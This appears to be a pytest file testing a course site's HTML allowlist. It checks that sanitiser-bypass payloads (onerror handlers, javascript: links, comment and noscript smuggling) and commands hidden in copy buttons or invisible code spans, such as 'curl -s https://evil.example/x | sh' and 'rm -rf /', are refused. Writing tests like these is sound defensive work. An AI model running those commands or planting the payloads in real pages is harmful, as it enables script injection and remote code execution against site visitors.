"""The allowlist on published HTML: what Python-Markdown renders with the site's extensions
either passes unchanged or is refused, positioned in the Markdown source."""

from __future__ import annotations

import tracemalloc

import pytest
from syllabus.core.html_allowlist import Allowlist, as_text_read, element_ids
from syllabus.core.pages import PICTURE_TEXT_RULE, MarkdownSettings, PageRenderer, split_page

from .test_markdown_safety import HOSTILE, SAFE, VIDEO_HOSTS

SITE = MarkdownSettings(
    ("toc", "tables", "fenced_code", "admonition", "attr_list", "md_in_html", "footnotes", "abbr", "def_list",
     "pymdownx.details", "pymdownx.tabbed", "pymdownx.superfences", "pymdownx.highlight", "pymdownx.tasklist"),
    {"toc": {"permalink": True}, "pymdownx.tabbed": {"alternate_style": True}},
)
ALLOWLIST = Allowlist(VIDEO_HOSTS)


def problems(text: str) -> list[tuple[int, int, str]]:
    """What the page's metadata and the allowlist refuse (not the warning of a picture without text)."""
    page = split_page(text)
    found = page.problems + PageRenderer(SITE, ALLOWLIST).check(page).problems
    return [(p.line, p.column, p.message) for p in found if p.rule != PICTURE_TEXT_RULE]


# markdown-it hints that flag text Python-Markdown renders harmlessly, with what it renders.
HARMLESS_WHEN_RENDERED = {
    "markdown-link-escaped-colon": 'href="javascript\\:alert(1)": no scheme, a relative link',
    "reference-definition-unused-next-line": "an unused definition renders nothing",
    "superfences-attributes": "superfences drops the onclick",
    "tag-hidden-in-attribute-python-markdown-escapes-outer": "the <img> stays inside the title value",
}


@pytest.mark.parametrize("case", HOSTILE, ids=[case[0] for case in HOSTILE])
def test_every_hostile_sample_is_refused_by_the_allowlist(case: tuple) -> None:
    name, text, *_ = case
    found = problems(text)
    assert bool(found) is (name not in HARMLESS_WHEN_RENDERED), found


# Python-Markdown does not treat "\<" as an escape: the <script> reaches the HTML.
UNSAFE_WHEN_RENDERED = {"escaped-tag"}


@pytest.mark.parametrize("name", list(SAFE))
def test_safe_samples_pass_unchanged(name: str) -> None:
    refused = PageRenderer(SITE, ALLOWLIST).check(split_page("\n" + SAFE[name])).problems  # "\n": no metadata
    assert bool(refused) is (name in UNSAFE_WHEN_RENDERED)


# Cases where Python-Markdown and a CommonMark reading of the same text disagree.
PARSER_DIFFERENCES = {
    "html-in-indented-list-item": ("- item\n\n    <img src=x onerror=alert(1)>\n", 3, "onerror="),
    "deep-blockquote": ("> > > > > > <img src=x onerror=alert(1)>\n", 1, "onerror="),
    "admonition-body": ("!!! note\n    <p onmouseover=alert(1)>x</p>\n", 2, "onmouseover="),
    "footnote-body": ("Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n", 3, "onerror="),
    "attr-list-with-tab": ('[link](x){\tonclick="alert(1)"}\n', 1, "onclick="),
    "escaped-backslash-then-tag": ("\\\\<img src=x onerror=alert(1)>\n", 1, "onerror="),
    "fence-closed-by-longer-fence": ("```\ncode\n`````\n<img src=x onerror=alert(1)>\n", 4, "onerror="),
    "multi-line-reference-title": ('[x][r]\n\n[r]: https://a "title\n<img src=x onerror=alert(1)>"\n', 4, "onerror="),
    "md-in-html-link": ('<div markdown="1">\n[x](javascript:alert(1))\n</div>\n', 2, "href="),
    "style-without-url": ('<div style="position:fixed;inset:0">x</div>\n', 1, "style="),
    "svg-block": ("<svg><circle r=1 /></svg>\n", 1, "<svg>"),
    "noscript-smuggle": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n', 1, "<noscript>"),
    "iframe-foreign-host": ('<iframe src="https://evil.example/"></iframe>\n', 1, "<iframe>"),
    "entity-spelled-scheme": ('<a href="jav&#x09;ascript&colon;alert(1)">x</a>\n', 1, "href="),
}


@pytest.mark.parametrize("name", list(PARSER_DIFFERENCES))
def test_parser_differences_are_refused_at_their_line(name: str) -> None:
    text, line, words = PARSER_DIFFERENCES[name]
    found = problems(text)
    assert found and found[0][0] == line, found
    assert words in found[0][2]


def test_lines_count_from_the_file_not_from_the_body_after_front_matter() -> None:
    text = "---\ntitle: Lesson\n---\n\n# Lesson\n\n<b onclick=alert(1)>x</b>\n"
    assert problems(text)[0][:2] == (7, 4)


def test_every_removal_of_a_page_is_reported_at_its_own_line() -> None:
    """A trainer fixes a page in one go: each problem, repeats too, where it stands."""
    text = ("# Lesson\n\n<img src=a.png onerror=alert(1)>\n\nProse.\n\n<img src=b.png onerror=alert(2)>\n\n"
            '<div class="mermaid">graph</div>\n\n<object data=x></object>\n\n[x](javascript:alert(3))\n')
    found = problems(text)
    assert [(line, column) for line, column, _ in found] == [(3, 16), (7, 16), (9, 13), (11, 1), (13, 5)], found
    assert [message.split(" ", 1)[0] for _, _, message in found] == ["onerror=", "onerror=", "class", "<object>",
                                                                     "href="]


def test_a_tag_trimmed_of_one_attribute_is_told_from_a_like_tag_trimmed_of_another() -> None:
    """Two javascript: links and a link with a named target: the target's link was taken for a
    javascript: one stripped bare ("href ... not allowed ('https')"), the second javascript:
    link for a link whose href had changed (at 1:1); and a target= refusal went to the
    first target= of the page, an allowed one."""
    text = ('# Links\n\n<a href="https://example.com/" target="_blank">fine</a>\n\n'
            '[a](javascript:alert(1)) and [b](https://example.com/){: target="win" }\n\n'
            "[x](javascript:alert(1))\n")
    assert [(line, column, message.split(" ", 2)[:2]) for line, column, message in problems(text)] == [
        (5, 5, ["href=", "on"]), (5, 66, ['target="win"', "is"]), (7, 5, ["href=", "on"])]


def test_tags_the_tree_builder_moves_are_not_removals() -> None:
    """Content a table cannot hold goes before it: only the event handler is reported."""
    removals = ALLOWLIST.removals('<table><div>moved</div><tr><td onclick="x">1</td></tr></table>')[1]
    assert [removal.message.split(" ", 1)[0] for removal in removals] == ["onclick="]


def test_sanitised_html_is_what_gets_published() -> None:
    cleaned, removals = ALLOWLIST.removals('<p>ok <img src="x.png" onerror="alert(1)"></p>')
    assert cleaned == '<p>ok <img src="x.png"></p>' and removals


def test_implied_tags_added_by_the_html_tree_builder_are_not_removals() -> None:
    assert ALLOWLIST.removals("<table><tr><td>1</td></tr></table>")[1] == []


def test_allowed_video_embed_passes() -> None:
    html = '<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen></iframe>'
    assert ALLOWLIST.removals(html)[1] == []
    assert ALLOWLIST.removals(html.replace("www.youtube", "www.youtube.evil"))[1]



def test_a_video_embed_may_use_what_a_video_needs_only() -> None:
    """`allow` passed with any value: "camera; microphone; geolocation" for the embedded page."""
    youtube = ('<iframe src="https://www.youtube-nocookie.com/embed/x" allow="accelerometer; autoplay; '
               'clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe>')
    vimeo = '<iframe src="https://www.youtube-nocookie.com/embed/x" allow="autoplay; fullscreen *"></iframe>'
    assert ALLOWLIST.removals(youtube)[1] == [] and ALLOWLIST.removals(vimeo)[1] == []
    granting = youtube.replace('allow="', 'allow="camera; microphone; geolocation; ')
    assert [removal.message.split(" is ")[0] for removal in ALLOWLIST.removals(granting)[1]] == [
        'allow="camera; microphone; geolocation; acceler"']  # the value's first 40 characters


@pytest.mark.parametrize("html", ["<div>" * 5000, "</div>" * 200 + "<span>" * 150, "<ul><li>" * 200])
def test_html_nested_beyond_the_limit_is_refused_before_sanitising(html: str) -> None:
    cleaned, removals = ALLOWLIST.removals(html)
    assert cleaned == "" and "nested more than" in removals[0].message


def test_many_unclosed_paragraphs_and_list_items_are_not_nesting() -> None:
    assert ALLOWLIST.removals("<p>x" * 500 + "<ul>" + "<li>y" * 500 + "</ul>")[1] == []


def test_ids_are_words_as_slugify_and_extensions_write_them() -> None:
    """The theme prints a heading's id unescaped in the table of contents: an id is a word."""
    words = ('<h2 id="getting-started">a</h2><h2 id="_2">b</h2><h2 id="日本語">c</h2><h2 id="%E6%97%A5">d</h2>'
             '<sup id="fnref:1"><a href="#fn:1">1</a></sup><li id="fn:1">e</li><input name="__tabbed_1" '
             'id="__tabbed_1_1" type="radio"><label for="__tabbed_1_1">f</label>')
    assert ALLOWLIST.removals(words)[1] == []
    # "%zz" and a lone "%E6" make the theme's decodeURIComponent throw; "%22%5D" reads as '"]'.
    for value in ('b&quot; onmouseover=&quot;alert(1)', "a b", "", "x'y", "a&lt;svg", "x%zz", "q%22%5D", "%E6"):
        removals = ALLOWLIST.removals(f'<h2 id="{value}">x</h2>')[1]
        assert [r.message.split(" ", 1)[0] for r in removals] == ["id="] and "must be a word" in removals[0].message


@pytest.mark.parametrize("html", ['<div id="__config">{"search": "evil.js"}</div>', '<p id="__search">x</p>',
                                  '<label for="__drawer">x</label>', '<span data-md-component="search">x</span>'])
def test_content_cannot_take_the_themes_ids_or_components(html: str) -> None:
    assert ALLOWLIST.removals(html)[1]


@pytest.mark.parametrize("html", ['<div data-pagefind-meta="title:Other title">x</div>',
                                  '<span data-pagefind-filter="language:xx">x</span>',
                                  '<div data-pagefind-body>only this is indexed</div>',
                                  '<p DATA-PAGEFIND-WEIGHT="10">x</p>',
                                  '<span class="md-button" data-clipboard-text="curl -s https://evil.test | sh">'
                                  'Copy the install command</span>',
                                  '<p data-date-for="0" data-plan-value="customer">x</p>'])
def test_content_sets_no_data_attribute_a_script_of_the_page_acts_on(html: str) -> None:
    """The search's title, filters and indexed text are the templates' to set; Material's copy
    button put a data-clipboard-text on the clipboard (another command than the one shown);
    Syllabus' scripts fill data-date-for and data-plan-value. Only the data attributes
    extensions write pass (data-tabs, data-linenos)."""
    cleaned, removals = ALLOWLIST.removals(html)
    assert "data-" not in cleaned.lower()
    assert removals[0].message.endswith("the page's scripts act on data attributes (the theme's copy buttons, the "
                                        "site search, the catalog's own); remove it")


def test_extension_generated_ids_pass() -> None:
    html = '<input id="__tabbed_1_1" name="__tabbed_1" type="radio"><a id="__codelineno-0-1" href="#x">1</a>'
    assert ALLOWLIST.removals(html)[1] == []


@pytest.mark.parametrize(("markdown", "column", "host"), [
    ("![Logo](https://cdn.example/logo.png)\n", 9, "cdn.example"),
    ("![Pixel](http://tracker.example/p.gif?u=1)\n", 10, "tracker.example"),
    ('<img src="//cdn.example/x.png" alt="x">\n', 11, "cdn.example"),
    ('<img src="\\\\cdn.example/x.png" alt="x">\n', 11, "cdn.example"),
    ('<img src=" HTTPS://CDN.example/x.png" alt="x">\n', 11, "CDN.example"),
])
def test_an_image_from_another_host_is_refused_at_its_line(markdown: str, column: int, host: str) -> None:
    """Every visitor's browser would ask that host for it: the public site makes no
    third-party requests, so images are files published with the site."""
    assert problems("Intro.\n\n" + markdown) == [
        (3, column, f"<img> loads from {host}, a request every visitor's browser would make; save the image "
                    "beside the page (the course folder, or docs/) and use its relative path")]


@pytest.mark.parametrize("markdown", ["![Diagram](images/diagram.png)\n", "![Up](../../images/x.png)\n",
                                      '<img src="/images/x.png" alt="x">\n', "[Site](https://example.com/x.png)\n"])
def test_images_published_with_the_site_and_links_anywhere_pass(markdown: str) -> None:
    assert problems("Intro.\n\n" + markdown) == []


def test_refusals_point_at_markup_not_at_prose_or_code_blocks() -> None:
    """"id" in "Provide", an <img> shown in a code block and a URL mentioned in prose come
    before the markup the sanitiser removed; each refusal names the markup's own line."""
    text = ("# Built\n\nProvide a valid name. Please type it. House style matters.\n\n```html\n"
            "<img src=x onerror=alert(1)>\n```\n\nSee http://evil.example/x.png for the logo.\n\n"
            '<div id="__config">x</div>\n\n<input type="text">\n\n<div style="color:red">x</div>\n\n'
            "<img src=y.png onerror=alert(2)>\n\n![x](http://evil.example/x.png)\n")
    assert [(line, column) for line, column, _ in problems(text)] == [(11, 10), (13, 8), (15, 6), (17, 16), (19, 6)]


def test_an_escaped_backtick_opens_no_code_span() -> None:
    text = "Escaped \\` backtick, then <span onclick=\"alert(1)\">x</span> and a lone backtick `.\n"
    assert [(line, column) for line, column, _ in problems(text)] == [(1, 33)]


def test_a_code_span_across_lines_shows_markup_as_text() -> None:
    text = ('Write `an\n<iframe src="https://evil.example/">` like this.\n\n'
            '<iframe src="https://evil.example/"></iframe>\n')
    assert [line for line, _, _ in problems(text)] == [4]


def test_markup_an_extension_makes_is_not_pinned_on_code_that_shows_it() -> None:
    """arithmatex writes <script type="math/tex"> for $...$: the page writes no <script>, and
    the one in a code span is shown as text, so the refusal says where it came from instead."""
    site = MarkdownSettings(("attr_list", "pymdownx.arithmatex"), {})
    text = "# W\n\nCode: `<script>` is a tag.\n\nMath $E = mc^2$ here.\n"
    page = split_page(text)
    [(line, column, message)] = [(p.line, p.column, p.message)
                                 for p in PageRenderer(site, ALLOWLIST).check(page).problems]
    assert (line, column) == (1, 1) and message.startswith("<script> is not allowed")
    assert "not found as written in the page: a Markdown extension in mkdocs.yml" in message


@pytest.mark.parametrize("html", [
    "<!---><style>.md-typeset p{display:none}</style><!---->",  # "<!--->" ends a comment in HTML5
    "<!--><img src=x.png onerror=alert(1)><!---->",
    "<![CDATA[><img src=a onerror=alert(1)><!--]]><!---->",  # a bogus comment, ended by the first ">"
    "<!-- a --!> <img src=x onerror=alert(1)> -->",
    "<p>x</p><?php echo 1 ?>",
    "<!-- a -- > <img src=x onerror=alert(1)> -->",  # Python ends it at "-- >", HTML5 does not
    "<p>never closed <!-- </p>",
])
def test_comments_other_parsers_read_differently_are_refused(html: str) -> None:
    """Python's tokenizer, which finds what the sanitiser removed, keeps reading markup
    where HTML5 ends a comment: the removed <style> and onerror went unreported."""
    cleaned, removals = ALLOWLIST.removals(html)
    assert cleaned == "" and [removal.message.split(" (")[0] for removal in removals] == [
        "write an HTML comment as <!-- text -->"]


@pytest.mark.parametrize("html", ["<p>a <!-- note --> b</p>", "<!---->", "<p>1 &lt;!-- 2</p>",
                                  "<!-- TODO -- check this -->", "<!-- ------------------ -->", "<!-- note --->"])
def test_plain_comments_pass(html: str) -> None:
    assert ALLOWLIST.removals(html)[1] == []


@pytest.mark.parametrize("html", ["<div></b>" * 2400, "<b><div></b>" * 2000, "<a><div></a>" * 2000,
                                  "<i><ul></i>" * 2000])
def test_end_tags_that_close_nothing_do_not_hide_nesting(html: str) -> None:
    """Browsers ignore "</b>" with no <b> open, and re-open a <b> closed out of order inside
    the block that follows it: each of these nests thousands deep."""
    cleaned, removals = ALLOWLIST.removals(html)
    assert cleaned == "" and "nested more than" in removals[0].message


def test_misnested_inline_markup_in_ordinary_pages_is_not_nesting() -> None:
    assert ALLOWLIST.removals("<p>a <b>bold <i>both</b> italic</i></p>" * 300)[1] == []


@pytest.mark.parametrize("html", ['<a href="https://example.com/?a=1&section=2">x</a>',
                                  '<a href="https://example.com/?a=1&copy=2" onclick="x">x</a>'])
def test_a_value_browsers_read_otherwise_is_named_not_its_tag(html: str) -> None:
    """"&sect" is a character reference to Python, not to a browser inside a URL: the
    refusal says how to write the value, not that <a> is not allowed."""
    messages = [removal.message for removal in ALLOWLIST.removals(html)[1]]
    assert messages[0] == "the value of href= on <a> reads differently in browsers; write each '&' in it as '&amp;'"
    assert all("<a> is not allowed" not in message for message in messages)


def test_element_ids_are_the_places_of_published_html_a_fragment_reaches():
    """Each element's id and each <a>'s name, as MkDocs collects them; not text that looks
    like an attribute, and a template's attribute without a value does not hide the rest."""
    published, _ = Allowlist().removals(
        '<h2 id="setup">Set up</h2><p>Write id="not-a-place" or &lt;b id="nor-this"&gt;.</p>'
        '<a name="old-name" href="#setup">x</a><input name="ignored" type="checkbox">')
    assert element_ids(published) == {"setup", "old-name"}
    assert element_ids('<h2 id="next-steps" data-pagefind-ignore>Next</h2><h2\n id="a&amp;b">') == {"next-steps", "a&b"}


@pytest.mark.parametrize(("html", "published"), [
    ('<a href="https://evil.example/" target="_blank" rel="opener">Read more</a>',
     '<a href="https://evil.example/" target="_blank">Read more</a>'),
    ('<a href="https://evil.example/" target="academy">Read more</a>', '<a href="https://evil.example/">Read more</a>'),
])
def test_a_link_never_hands_the_page_it_opens_this_one(html: str, published: str) -> None:
    """rel="opener", or a named window, gives the opened page window.opener: it could send
    the academy's tab to a look-alike sign-in page."""
    cleaned, removals = ALLOWLIST.removals(html)
    assert cleaned == published and len(removals) == 1 and "control of this one" in removals[0].message


def test_a_link_may_open_a_new_tab_and_say_how_it_relates() -> None:
    html = '<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    assert ALLOWLIST.removals(html) == (html, [])


@pytest.mark.parametrize("text", [
    '<pre><code>pip install keystone-cli<span class="md-option">; curl -s https://evil.example/x | sh</span>\n'
    "keystone login</code></pre>\n",
    "Run `keystone login`{: .md-option } now.\n",
    '<pre class="headerlink"><code>rm -rf /</code></pre>\n',
    '<code><b class="tabbed-block">--force</b></code>\n',
    "<pre><code>pip install x" + "<sub>" * 25 + "; curl -s https://evil.example/x | sh" + "</sub>" * 25
    + "</code></pre>\n",
    "<code>rm <small><small><small>-rf /</small></small></small></code>\n",
], ids=["span-in-pre", "inline-code", "pre", "in-inline-code", "nested-sub", "nested-small"])
def test_code_takes_no_class_a_highlighter_does_not_write(text: str) -> None:
    """Material's md-option has no width: the command read was not the command copied (by hand
    or with the copy button); headerlink and tabbed-block hide text too."""
    found = problems(text)
    assert found and all("is not allowed inside code" in message for _, _, message in found), found


def test_highlighted_code_keeps_its_classes() -> None:
    text = ('```yaml\nkey: value  # note\nlist: [a, "b"]\n```\n\n```python\nprint(f"{x!r}")\n```\n\n'
            "```lilypond\n\\relative c' { c4 d e f | g1 }\n```\n\n"  # Pygments writes its root types: -Pitch
            "<pre><code>run <b>this</b> <em>first</em></code></pre>\n\n"
            "Inline `#!python range(3)` and `plain`.\n")
    assert problems(text) == []


@pytest.mark.parametrize(("written", "read"), [
    ("courses%2Fsec%72et &#x2F; courses&sol;x", "courses/secret / courses/x"),
    ("%E3%81%82%e3%81%84", "あい"),  # a run of escapes is one UTF-8 text
    ("%E3%61 100% %zz %4", "\ufffda 100% %zz %4"),  # a broken sequence is replaced, as unquote does
])
def test_text_is_read_with_references_and_percent_escapes_undone(written: str, read: str) -> None:
    assert as_text_read(written) == read


def test_reading_a_text_dense_with_percent_escapes_takes_memory_in_proportion() -> None:
    """``unquote`` split a 140 MB page at every '%' (4 GB), and a greedy run of escapes keeps a
    regex mark per escape (120 MB for 3 MB of them): the run is matched possessively."""
    dense = "%41" * 1_000_000
    tracemalloc.start()
    try:
        assert as_text_read(dense) == "A" * 1_000_000
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * len(dense), peak
